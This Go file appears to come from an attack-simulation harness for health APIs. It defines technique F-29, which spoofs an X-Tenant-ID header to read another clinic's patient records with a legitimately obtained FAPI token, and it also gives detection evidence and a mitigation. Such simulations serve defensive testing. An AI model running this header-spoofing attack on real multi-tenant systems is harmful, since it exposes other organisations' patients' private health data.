package attacker

import (
	"context"
	"net/http"
	"net/url"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

// tenantHeader is in which systems that serve several organisations say for which of them they ask.
const tenantHeader = "X-Tenant-ID"

const beyondTenant = "FAPI 2.0 says which client holds a token, not for which organisation it asks: \"sufficient authorization\" (SP 5.3.4-4) is for the API to " +
	"define. An API that takes the organisation from the token, and holds what a header says against that, stops this."

var _ = register("F-29", Technique{
	Title: "Another clinic's number in a header",
	Story: "The thief has a system that sends reminders for the hospital he works at, honestly registered, with a key of its own. Suppliers of many clinics " +
		"say in a header for which of them they ask. He writes a clinic's number into it, which any register of companies has, and asks for a " +
		"patient of hers: the API asks whose record it is, and believes who he is.",
	Reads:    []string{"OWASP API1:2023", "HelseID, organisation numbers in tokens"},
	Evidence: "A request that names another organisation than its token does, or, where tokens name none, than that client ever named.",
	Has:      []event.Asset{event.OwnSystem},
	Scene:    Scene{OwnSystem: true},
	Beyond:   beyondTenant,
	Run: func(ctx context.Context, g Ground) error {
		var c fapi.Credentials
		if err := stolenJSON(g, event.OwnSystem, &c); err != nil {
			return err
		}
		a, err := newApp(ctx, g, c)
		if err != nil {
			return err
		}
		form := url.Values{"grant_type": {"client_credentials"}, "scope": {"system/*.rs"}, "resource": {g.Target().FHIRBase}}
		t, err := a.token(ctx, form, nil)
		if err != nil {
			return err
		}
		at := record(g, stranger(g))
		_, err = a.withNonce(at, func() (*http.Request, error) {
			r, err := a.asking(ctx, at, t)
			if err == nil {
				r.Header.Set(tenantHeader, g.Target().OtherClinic) // the one thing wrong
			}
			return r, err
		})
		return err
	},
})
